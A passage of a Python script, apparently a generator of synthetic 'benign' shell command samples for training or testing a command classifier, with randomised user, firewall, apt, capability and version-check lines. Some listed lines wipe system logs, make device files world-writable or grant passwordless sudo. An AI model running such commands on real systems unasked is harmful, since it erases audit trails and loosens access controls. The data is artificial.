        "useradd -r -u %d -g %s -d %s -s /sbin/nologin %s" % (r.randint(100, 999), u, d, u), "usermod -aG docker %s" % u, "usermod -u 1000 %s" % u,
        "groupmod -g 1000 %s && usermod -u 1000 -g 1000 %s" % (u, u), "echo '%s:%s' | chpasswd" % (u, r.choice(["$PASSWORD", "${USER_PASSWORD}"])),
        "echo '%s ALL=(root) NOPASSWD: /usr/bin/apt-get' > /etc/sudoers.d/%s && chmod 0440 /etc/sudoers.d/%s" % (u, u, u),
        "mknod -m 666 /dev/null c 1 3", "mkfifo /var/run/%s.fifo" % name, "mkfifo /tmp/log-pipe && chmod 666 /tmp/log-pipe",
        "ufw allow %d/tcp" % r.choice([22, 80, 443, 8080]), "iptables -L -n", "update-alternatives --set iptables /usr/sbin/iptables-legacy",
        "modprobe -n %s || true" % r.choice(["overlay", "br_netfilter"]), "echo 'SUBSYSTEM==\"usb\", MODE=\"0666\"' > /etc/udev/rules.d/99-usb.rules",
        "echo 'DPkg::Post-Invoke {\"rm -f /var/cache/apt/archives/*.deb || true\";};' > /etc/apt/apt.conf.d/docker-clean",
        "echo 'Dir::Cache::pkgcache \"\";' > /etc/apt/apt.conf.d/00-nocache",
        "mv /tmp/%s /usr/local/bin/%s && chmod +x /usr/local/bin/%s" % ((name,) * 3), "mv %s-%s-linux-amd64 /usr/bin/%s" % (name, v, name),
        "chattr -i /etc/resolv.conf || true", "lsattr /etc/hosts",
        "socat -V", "openssl s_client -connect %s:443 -showcerts </dev/null" % r.choice(["registry.npmjs.org", "pypi.org", "github.com"]),
        "nc -z %s %d" % (r.choice(["db", "localhost", "redis", "postgres"]), r.choice([5432, 6379, 3306, 8080])),
        "python3 -c 'import sys; print(sys.version)'", "python3 -c \"import socket; print(socket.gethostname())\"", "perl -e 'print \"ok\\n\"'",
        "node -e \"console.log(process.versions.node)\"", "node -e \"require('net').createServer().listen(0, function(){ console.log(this.address().port); this.close() })\"",
        "ruby -e 'puts RUBY_VERSION'", "php -r 'echo PHP_VERSION;'", "lua -e 'print(_VERSION)'",
        "git config --global core.hooksPath .githooks", "cp scripts/pre-commit .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        "echo 'HISTSIZE=1000' >> /etc/skel/.bashrc", "journalctl --vacuum-size=50M || true", "rm -f /var/log/dpkg.log /var/log/alternatives.log /var/log/apt/*.log", "truncate -s 0 /var/log/*log",
        "setcap 'cap_net_bind_service=+ep' /usr/local/bin/%s" % name, "setcap cap_net_bind_service=+ep $(readlink -f $(which node))",
    ])


def benign_lines(r: random.Random, n: int):
    out, seen = [], set()
    tries = 0
    while len(out) < n and tries < n * 30:
        tries += 1
        fam, t = benign_line(r)
        k = r.random()
        if k < 0.06:
            t = t.replace(" ", "  ", 1)
        elif k < 0.08:
            t = "\t" + t
        t = t.strip()
        if t in seen:
            continue
        seen.add(t)
        out.append((fam, t))
    return out
